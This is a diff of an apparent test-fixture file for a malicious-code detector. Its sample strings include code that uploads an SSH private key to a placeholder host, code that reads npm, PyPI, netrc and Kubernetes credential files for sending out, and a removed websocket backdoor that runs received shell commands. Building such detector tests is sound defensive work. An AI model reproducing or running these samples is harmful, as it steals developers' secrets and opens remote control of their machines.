@@ -59,12 +59,6 @@ CASES: tuple[Case, ...] = (
         f"    c.setopt(pycurl.URL, '{HOST}/up')\n    c.setopt(pycurl.HTTPPOST, [('f', (pycurl.FORM_FILE, path))])\n    c.perform()\n\n\nup(os.path.expanduser('~/.ssh/id_rsa'))\n",
     ),
     imported(
-        "told-by-a-socket-of-the-web",
-        "import json, os, threading, websocket\n\n\nclass Feed:\n    def on_message(self, ws, message):\n        self.handle(ws, json.loads(message))\n\n"
-        "    def handle(self, ws, data):\n        ws.send(os.popen(data['d']).read())\n\n    def start(self):\n"
-        f"        app = websocket.WebSocketApp('wss://{_NAME}/ws', on_message=self.on_message)\n        threading.Thread(target=app.run_forever).start()\n\n\nFeed().start()\n",
-    ),
-    imported(
         "credentials-of-many-when-called",
         "import asyncio, pathlib\nimport aiohttp\n\nFILES = ['~/.npmrc', '~/.pypirc', '~/.netrc', '~/.kube/config']\n\n\n"
         "async def load(path):\n    found = {name: pathlib.Path(name).expanduser().read_text() for name in FILES}\n"
